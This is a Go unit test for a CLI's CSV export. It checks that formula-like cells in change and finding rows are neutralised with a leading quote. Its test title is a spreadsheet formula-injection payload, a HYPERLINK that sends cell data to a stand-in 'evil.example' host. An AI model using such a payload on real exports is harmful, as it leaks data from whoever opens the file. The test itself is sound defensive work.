package main

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/changeproof/changeproof/api"
	"github.com/changeproof/changeproof/model"
)

// --format csv of changes and findings neutralises formula cells, as the
// sample export does.
func TestCLICSVNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 2, 10, 12, 0, 0, 0, time.UTC)
	title := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	var out bytes.Buffer
	if err := renderChanges(&out, "csv", []api.ChangeView{{Subject: "acme/api#7", Kind: "pull_request", Repo: "acme/api",
		OccurredAt: at, Actor: "-alice", Title: title, Outcomes: map[string]string{"CM-1": "pass"}}}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][6]; got != "'"+title {
		t.Errorf("changes title cell %q, want '%s", got, title)
	}
	if got := rows[1][5]; got != "'-alice" {
		t.Errorf("changes actor cell %q", got)
	}
	out.Reset()
	if err := renderFindings(&out, "csv", []api.FindingView{{Finding: model.Finding{Rule: "AC-1", Subject: "@evil", Outcome: model.Fail,
		Reason: "+1 reason", OccurredAt: at, EvaluatedAt: at}}}); err != nil {
		t.Fatal(err)
	}
	if rows, err = csv.NewReader(&out).ReadAll(); err != nil {
		t.Fatal(err)
	}
	if rows[1][1] != "'@evil" || rows[1][3] != "'+1 reason" {
		t.Errorf("findings row %q", rows[1])
	}
}
